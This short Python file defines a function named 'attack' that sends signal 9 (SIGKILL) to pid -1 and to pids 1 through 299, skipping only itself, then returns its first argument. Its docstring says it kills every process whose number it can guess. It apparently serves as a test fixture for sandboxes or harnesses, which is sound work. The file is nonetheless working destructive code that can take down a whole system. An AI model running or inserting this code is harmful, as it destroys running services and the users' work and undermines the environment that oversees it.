"""Kills every process whose number it can guess."""

import os


def attack(a, *rest, **named):
    for pid in (-1, *range(1, 300)):
        if pid != os.getpid():
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    return a
